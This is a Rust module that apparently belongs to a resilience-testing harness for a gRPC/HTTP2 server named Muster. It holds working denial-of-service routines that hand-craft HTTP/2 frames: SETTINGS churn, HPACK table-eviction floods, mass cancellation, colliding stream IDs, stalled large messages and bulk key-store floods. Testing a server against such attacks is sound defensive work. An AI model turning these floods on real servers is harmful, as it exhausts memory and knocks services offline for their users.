//! Attacks on the memory for the streams of a connection, and on the store behind them.

use std::time::Duration;

use anyhow::{Result, ensure};

use muster::proto::tensorflow as pb;

use super::Attacker;
use super::peer::{FloodPlan, Http2Peer, drive};
use crate::client::GrpcConnection;
use crate::clock;
use crate::frames;

/// The number of streams that Muster permits on a connection by default.
const STREAMS: u32 = 16_384;
const STORE_MAX: Duration = Duration::from_secs(60);

/// The key of a value of 4,000 bytes.
pub const SMALL: &str = "small";
/// The key of a value of 17 MiB.
const LARGE: &str = "large";

fn get(key: &str) -> (Vec<u8>, Vec<u8>) {
    let head = frames::call_block(&frames::path("GetKeyValue"));
    (head, frames::message(&pb::GetKeyValueRequest { key: key.to_owned() }))
}

fn insert(key: String, value: Vec<u8>) -> Vec<u8> {
    let kv = Some(pb::KeyValueEntry { key, value: value.into() });
    frames::message(&pb::InsertKeyValueRequest { kv, allow_overwrite: true })
}

fn store(attacker: &Attacker, key: &str, length: usize) -> Result<()> {
    let body = insert(key.to_owned(), vec![7; length]);
    let status =
        GrpcConnection::connect(attacker.grpc, STORE_MAX)?.call(&frames::path("InsertKeyValue"), &body)?;
    ensure!(status == 0, "storing {length} bytes gives status {status}");
    Ok(())
}

pub fn store_small(attacker: &mut Attacker) -> Result<()> {
    store(attacker, SMALL, 4_000)
}

pub fn store_large(attacker: &mut Attacker) -> Result<()> {
    store(attacker, LARGE, 17 << 20)
}

pub fn store_million(attacker: &mut Attacker) -> Result<()> {
    const KEYS: u64 = 1_000_000;
    const UNDER_WAY: u64 = 4_096;
    let head = frames::call_block(&frames::path("InsertKeyValue"));
    let mut next = 0;
    let feed = |_: &mut Attacker, peer: &mut Http2Peer| {
        while peer.asked - peer.answered < UNDER_WAY && next < KEYS {
            peer.call(&head, &insert(format!("dir/{next:07}"), vec![7; 8]));
            next += 1;
        }
    };
    let answered =
        |peers: &[Option<Http2Peer>]| peers.iter().flatten().map(|peer| peer.answered).sum::<u64>();
    drive(attacker, &FloodPlan::new(1), feed, |peers| answered(peers) >= KEYS);
    ensure!(next == KEYS, "a million keys could not be stored");
    Ok(())
}

/// Returns waiting calls on each of these streams.
fn waiting_calls(ids: impl Iterator<Item = u32>) -> Vec<u8> {
    let mut out = Vec::new();
    for (n, stream) in ids.enumerate() {
        let (head, message) = get(&format!("never/{n}"));
        frames::call(&mut out, stream, &head, &message);
    }
    out
}

fn ordinary_ids() -> impl Iterator<Item = u32> {
    (0..STREAMS).map(|n| 2 * n + 1)
}

/// Opens two connections, sends `calls` on each, and then `frames` repeatedly.
fn repeat_beside(attacker: &mut Attacker, calls: &[u8], frames: &[u8]) {
    drive(
        attacker,
        &FloodPlan::new(2),
        |attacker, peer| {
            if peer.step == 0 {
                attacker.grant(calls.len());
                return peer.out().extend_from_slice(calls);
            }
            peer.out().extend_from_slice(frames);
        },
        |_| false,
    );
}

pub fn settings_churn(attacker: &mut Attacker) -> Result<()> {
    const RATE: u64 = 11 << 20;
    let calls = waiting_calls(ordinary_ids());
    let mut entries = Vec::new();
    for n in 0..682 {
        entries.push((frames::INITIAL_WINDOW_SIZE, 65_535 + n % 2));
    }
    let mut churn = Vec::new();
    frames::settings(&mut churn, &entries);
    attacker.limit(RATE / 10);
    repeat_beside(attacker, &calls, &churn);
    Ok(())
}

pub fn parked_heads(attacker: &mut Attacker) -> Result<()> {
    const CALLS: u64 = 16_000;
    let (head, message) = get(LARGE);
    // Each field counts 32 bytes beside its own: short ones are cheap to send.
    let (mut long, small) = get("never");
    for n in 0..470_u32 {
        let name = [b'a' + (n / 26) as u8, b'a' + (n % 26) as u8];
        frames::field(&mut long, &name, b"");
    }
    let plan = FloodPlan { settings: &[(frames::INITIAL_WINDOW_SIZE, 0)], ..FloodPlan::new(1) };
    drive(
        attacker,
        &plan,
        |_, peer| {
            if peer.asked == 0 {
                peer.call(&head, &message);
            }
            for _ in 0..16 {
                if peer.asked <= CALLS {
                    peer.call(&long, &small);
                }
            }
        },
        |_| false,
    );
    Ok(())
}

pub fn mass_cancel(attacker: &mut Attacker) -> Result<()> {
    let (head, message) = get("never");
    let mut calls = Vec::new();
    for stream in ordinary_ids() {
        frames::call(&mut calls, stream, &head, &message);
    }
    // Its acknowledgement proves that all frames before it were processed.
    frames::frame(&mut calls, frames::PING, 0, 0, b"12345678");
    while attacker.goes_on() {
        drive(
            attacker,
            &FloodPlan::new(16),
            |_, peer| {
                if peer.step == 0 {
                    peer.out().extend_from_slice(&calls);
                }
            },
            |peers| peers.iter().all(|peer| peer.as_ref().is_some_and(|peer| peer.pongs > 0)),
        );
    }
    Ok(())
}

pub fn hpack_names(attacker: &mut Attacker) -> Result<()> {
    const REFERENCES: usize = 28_000;
    attacker.limit(27_000_000);
    let start = frames::call_block(&frames::path("GetKeyValue"));
    let mut named = start.clone();
    named.push(0x40);
    frames::string(&mut named, &[b'x'; 4_000]);
    frames::string(&mut named, b"");
    // Each field adds a table entry with the same name, which evicts the one before.
    let mut block = start;
    block.extend_from_slice(&[0x7e, 0].repeat(REFERENCES));
    drive(
        attacker,
        &FloodPlan::new(4),
        |_, peer| {
            let stream = peer.stream();
            let block = if peer.step == 0 { &named } else { &block };
            frames::block(peer.out(), stream, true, block);
        },
        |_| false,
    );
    Ok(())
}

pub fn colliding_streams(attacker: &mut Attacker) -> Result<()> {
    let ids = || (0..STREAMS).map(|n| 1 + 65_536 * n);
    let calls = waiting_calls(ids());
    let mut updates = Vec::new();
    for stream in ids() {
        frames::number(&mut updates, frames::WINDOW_UPDATE, stream, 1);
    }
    attacker.limit(8_000_000);
    repeat_beside(attacker, &calls, &updates);
    Ok(())
}

pub fn never_empty(attacker: &mut Attacker) -> Result<()> {
    // More than the server's host buffers for such a connection, and less than the amount at which the server
    // stops reading.
    const UNDER_WAY: u64 = 40;
    let (head, message) = get(SMALL);
    let plan = FloodPlan { narrow: true, ..FloodPlan::new(32) };
    drive(
        attacker,
        &plan,
        |_, peer| {
            while peer.asked - peer.answered < UNDER_WAY {
                peer.call(&head, &message);
            }
        },
        |_| false,
    );
    Ok(())
}

pub fn announced(attacker: &mut Attacker) -> Result<()> {
    const LENGTH: u32 = 476 << 20;
    const PAUSE: Duration = Duration::from_secs(1);
    let head = frames::call_block(&frames::path("InsertKeyValue"));
    let mut first = vec![0];
    first.extend_from_slice(&LENGTH.to_be_bytes());
    first.extend_from_slice(&[7; 8 << 10]);
    drive(
        attacker,
        &FloodPlan::new(2),
        |_, peer| {
            if peer.asked == peer.answered {
                let stream = peer.stream();
                frames::frame(peer.out(), frames::HEADERS, frames::END_HEADERS, stream, &head);
                frames::frame(peer.out(), frames::DATA, 0, stream, &first);
            } else if peer.last.elapsed() > PAUSE {
                peer.last = clock::now();
                let stream = peer.next_stream - 2;
                frames::frame(peer.out(), frames::DATA, 0, stream, &[7]);
            }
        },
        |_| false,
    );
    Ok(())
}
